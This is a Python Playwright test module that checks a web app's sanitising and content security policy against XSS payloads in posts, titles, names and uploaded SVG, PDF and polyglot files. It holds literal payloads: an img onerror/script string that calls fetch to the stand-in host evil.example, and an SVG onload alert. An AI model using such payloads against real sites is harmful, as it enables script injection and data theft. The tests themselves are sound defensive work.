"""What others wrote to run a script: as posts, titles, names, documents and photos, in a real browser, with nothing
let out.

The corpora stay where they are; without them these tests are skipped, loudly.
"""

import json
import sqlite3

import pytest
from playwright.sync_api import Error as BrowserError
from playwright.sync_api import expect

from app.core import markup
from app.documents.models import FILES_AT_ONCE, document_link
from tests.journeys.site import ROOT, Site

pytestmark = pytest.mark.slow

CORPUS = ROOT.parent / "shared" / "corpora" / "xss"
FILES = CORPUS.with_name("files")
ON_A_PAGE = 25
TITLE_MOST, NAME_MOST = 150, 80
UNSAFE = '<img src="/static/none.png" onerror="alert(1)"><script>fetch("//evil.example/");window.pwned=1</script>'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
POLYGLOT = "own-png-html-polyglot.png"
PHOTOS_OF_OTHERS = "Wat anderen een foto noemen"
PHOTOS_AT_ONCE = 14  # files that a form of a listing takes
# What a payload may do to show that it ran. The page's own globals are known before it loads anything hostile.
WATCH = """
  window.fired = [];
  for (const name of ["alert", "confirm", "prompt", "print", "open"])
    window[name] = (...words) => { window.fired.push([name, String(words[0]).slice(0, 80)]); };
"""


@pytest.fixture(scope="module")
def payloads():
    if not CORPUS.is_dir():
        pytest.skip(f"SKIPPED WITHOUT CORPORA: {CORPUS} is missing")
    found = {}
    for path in sorted(CORPUS.glob("*.json")):
        for case in json.loads(path.read_text()):
            found[case["payload"]] = None
    assert len(found) > 1_000
    return list(found)


@pytest.fixture(scope="module")
def rendered(payloads):
    return [str(markup.render(text[: markup.MAX_LENGTH], person_id=None)) for text in payloads]


@pytest.fixture(scope="module")
def hostile_site(demo, rendered, payloads, tmp_path_factory):
    """A site where every thread of the payloads, every title and every name is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    with Site(demo, folder) as running:
        with sqlite3.connect(folder / "brink.db", timeout=15) as connection:
            running.thread_ids = fill(connection, rendered, payloads)
        yield running
    assert running.complaints() == []


def fill(connection, bodies, titles):
    """Rows as the services write them, many at a time: one thread for 25 posts."""
    group, tie = connection.execute(
        "SELECT g.id, t.id FROM groups g, ties t JOIN people p ON p.id = t.person_id "
        "WHERE g.slug = 'energie' AND p.email = 'bram@brink.example'").fetchone()
    (person,) = connection.execute("SELECT person_id FROM ties WHERE id = ?", (tie,)).fetchone()
    (seq,) = connection.execute("SELECT last_seq FROM group_tallies WHERE group_id = ?", (group,)).fetchone()
    moment, threads = "2026-01-01 12:00:00.000000", []
    for number in range(0, len(bodies), ON_A_PAGE):
        thread, some = 1_000 + number, bodies[number : number + ON_A_PAGE]
        seq += len(some)
        title = without_hidden(titles[number])[:TITLE_MOST].strip() or "leeg"
        connection.execute(
            "INSERT INTO threads (id, group_id, title, mail_subject, kind, status, last_position, last_seq, "
            "last_post_at, created_at, created_by) VALUES (?, ?, ?, '', 'discussion', 'open', ?, ?, ?, ?, ?)",
            (thread, group, title, len(some), seq, moment, moment, tie))  # fmt: skip
        connection.executemany(
            "INSERT INTO posts (id, thread_id, position, seq, author_id, created_by, body_md, body_html, source, "
            "created_at) VALUES (?, ?, ?, ?, ?, ?, '', ?, 'web', ?)",
            [(10_000 + number + place, thread, place + 1, seq - len(some) + place + 1, person, tie, html, moment)
             for place, html in enumerate(some)])  # fmt: skip
        threads.append(thread)
    connection.execute("UPDATE group_tallies SET last_seq = ? WHERE group_id = ?", (seq, group))
    people = [row[0] for row in connection.execute("SELECT id FROM people WHERE email NOT LIKE 'anna%'")]
    connection.executemany("UPDATE people SET name = ? WHERE id = ?", [
        (without_hidden(titles[place * 7 % len(titles)])[:NAME_MOST].strip() or "x", person_id)
        for place, person_id in enumerate(people)])  # fmt: skip
    return threads


def without_hidden(text):
    return text.encode("utf-8", "replace").decode().replace("\0", "").replace("\n", " ")


class Watcher:
    """A page that takes down every sign of a script that is not ours."""

    def __init__(self, page, site):
        self.page, self.signs = page, []
        page.add_init_script(WATCH)
        page.on("dialog", lambda dialog: (self.signs.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: self.signs.append(f"window {popup.url}"))
        page.on("pageerror", lambda error: self.signs.append(f"error {error}"))
        page.on("request", lambda request: self._note(request, site))
        page.goto("/groups/energie/threads/new")  # the same scripts as under a thread
        self.known = set(page.evaluate("Object.keys(window)"))

    def _note(self, request, site):
        ours = site.url, site.url.replace("http", "ws"), "data:", "blob:"
        if not request.url.startswith(ours):
            self.signs.append(f"request {request.url[:120]}")

    def takes_as_download(self, address):
        """Whether the browser keeps these bytes; those that it shows are looked at."""
        try:
            self.see(address)
        except BrowserError as problem:
            if "Download is starting" not in str(problem):
                raise
            return True
        return False

    def see(self, address):
        self.page.goto(address, wait_until="load")
        self.page.evaluate("document.querySelectorAll('details').forEach(fold => (fold.open = true))")
        self.page.mouse.move(400, 400)
        fired, path, names = self.page.evaluate("[window.fired, location.pathname, Object.keys(window)]")
        strange = set(names) - self.known
        if fired or strange or not path.startswith(address.split("?")[0]):
            self.signs.append(f"{address} {path} {fired} {sorted(strange)}")


def test_no_payload_fires_in_a_post(hostile_site, open_hostile):
    """Issue A, 7; trust: 0 payloads fire, from post bodies or titles."""
    watcher = Watcher(open_hostile(hostile_site), hostile_site)
    for thread in hostile_site.thread_ids:
        watcher.see(f"/threads/{thread}")

    assert watcher.signs == []


def test_no_payload_fires_in_a_title_or_a_name(hostile_site, open_hostile):
    """Issue A, 7: lists, members, home, and the form under a thread."""
    watcher = Watcher(open_hostile(hostile_site), hostile_site)
    pages = -(-len(hostile_site.thread_ids) // ON_A_PAGE)
    addresses = [f"/groups/energie/threads?page={number + 1}" for number in range(pages)]
    for address in [*addresses, "/", "/groups", "/groups/energie", "/groups/energie/members",
                    "/groups/innovatie/members", "/groups/innovatie", "/notifications", "/groups/new"]:  # fmt: skip
        watcher.see(address)

    assert watcher.signs == []


def test_the_same_eye_sees_a_payload_that_does_fire(hostile_site, chromium):
    """Positive control: HTML that nobody cleaned, on a page whose CSP is off."""
    with sqlite3.connect(hostile_site.folder / "brink.db", timeout=15) as connection:
        connection.execute("UPDATE posts SET body_html = ? WHERE id = 10000", (UNSAFE,))
    context = chromium.new_context(base_url=hostile_site.url, bypass_csp=True)
    context.add_cookies([hostile_site.cookie_of("anna")])
    watcher = Watcher(context.new_page(), hostile_site)
    watcher.see(f"/threads/{hostile_site.thread_ids[0]}")
    watcher.see(f"/threads/{hostile_site.thread_ids[0]}")
    context.close()

    signs = " ".join(watcher.signs)
    assert "'alert'" in signs
    assert "request http://evil.example/" in signs
    assert "pwned" in signs


def test_the_policy_stops_what_cleaning_would_let_through(hostile_site, chromium):
    """Trust 7: the second wall; the same uncleaned HTML runs nothing where the CSP is on."""
    with sqlite3.connect(hostile_site.folder / "brink.db", timeout=15) as connection:
        connection.execute("UPDATE posts SET body_html = ? WHERE id = 10000", (UNSAFE,))
    context = chromium.new_context(base_url=hostile_site.url)
    context.add_cookies([hostile_site.cookie_of("anna")])
    watcher = Watcher(context.new_page(), hostile_site)
    watcher.see(f"/threads/{hostile_site.thread_ids[0]}")
    context.close()

    assert watcher.signs == []


@pytest.fixture(scope="module")
def active_files():
    """What a browser would run if it were shown as what it is: of the corpora, and our own under false names."""
    if not FILES.is_dir():
        pytest.skip(f"SKIPPED WITHOUT CORPORA: {FILES} is missing")
    found = [*sorted(FILES.glob("svg/*")), FILES / "images" / POLYGLOT]
    found += [path for path in sorted(FILES.glob("pdf/*.pdf")) if b"/JavaScript" in path.read_bytes()]
    assert {path.suffix for path in found} == {".svg", ".png", ".pdf"}
    bodies = {path.name: path.read_bytes() for path in found}
    own = {"los.html": UNSAFE, "foto.png": UNSAFE, "stuk.pdf": f"%PDF-1.7\n{UNSAFE}", "beeld.jpg": SVG}
    bodies |= {name: body.encode() for name, body in own.items()}
    return [{"name": name, "mimeType": "", "buffer": body} for name, body in bodies.items()]


def test_no_file_runs_as_a_document(fresh_site, open_hostile, active_files):
    """DOC-14, DOC-15, issue B: on its page, opened in the browser, and downloaded."""
    page = open_hostile(fresh_site)
    for start in range(0, len(active_files), FILES_AT_ONCE):
        page.goto("/groups/energie/documents")
        page.get_by_label("Bestanden toevoegen").set_input_files(active_files[start : start + FILES_AT_ONCE])
        page.get_by_role("button", name="Toevoegen", exact=True).click()
        page.get_by_role("status").filter(has_text="toegevoegd").wait_for()
    rows = fresh_site.rows("SELECT document_id, title, file_name FROM document_versions v JOIN documents d ON "
                           "document_id = d.id")  # fmt: skip
    made = [row for row in rows if row[2] in {file["name"] for file in active_files}]
    assert len(made) == len(active_files)
    watcher, shown = Watcher(page, fresh_site), set()
    for number, title, name in made:
        watcher.see(document_link(number, title))
        if not watcher.takes_as_download(f"/documents/{number}/file?inline"):
            shown.add(name)
        assert watcher.takes_as_download(f"/documents/{number}/file")

    assert watcher.signs == []
    assert POLYGLOT in shown
    assert not any(name.endswith((".svg", ".html", ".jpg")) for name in shown)


def test_no_file_runs_as_a_photo_of_a_listing(fresh_site, open_hostile, active_files):
    """MKT-6, issue C: what is no picture is refused by name; what is one is shown as a picture made anew."""
    page = open_hostile(fresh_site)
    page.goto("/market/new?kind=offer&category=material")
    page.get_by_label("Titel").fill(PHOTOS_OF_OTHERS)
    refusals = page.get_by_role("alert").filter(has_text="Deze foto kan niet worden getoond")
    for start in range(0, len(active_files), PHOTOS_AT_ONCE):
        some = active_files[start : start + PHOTOS_AT_ONCE]
        page.get_by_label("Foto's toevoegen").set_input_files(some)
        page.get_by_role("button", name="Plaatsen", exact=True).click()
        expect(refusals).to_have_count(sum(file["name"] != POLYGLOT for file in some))
    kept = fresh_site.rows("SELECT listing_id, f.id, name FROM listing_files f JOIN listings l ON l.id = listing_id "
                           "WHERE title = ?", PHOTOS_OF_OTHERS)  # fmt: skip
    assert [name for _listing, _file, name in kept] == [POLYGLOT]
    [(listing, file, _name)] = kept
    watcher = Watcher(page, fresh_site)
    watcher.see(f"/listings/{listing}/edit")
    assert not watcher.takes_as_download(f"/listings/{listing}/files/{file}?inline")

    assert watcher.signs == []


def test_the_same_eye_sees_a_file_that_is_shown_as_what_it_is(site, open_hostile):
    """Positive control: a drawing with a script, as a server without care gives it back."""
    page = open_hostile(site)
    page.route("**/documents/1/file", lambda route: route.fulfill(content_type="image/svg+xml", body=SVG))
    watcher = Watcher(page, site)
    watcher.see("/documents/1/file")

    assert "'alert'" in " ".join(watcher.signs)


@pytest.fixture
def open_hostile(chromium):
    """A browser as Anna's, without the watch on console errors: hostile texts name files that do not exist."""
    contexts = []

    def opened(site):
        context = chromium.new_context(base_url=site.url)
        context.add_cookies([site.cookie_of("anna")])
        contexts.append(context)
        return context.new_page()

    yield opened
    for context in contexts:
        context.close()
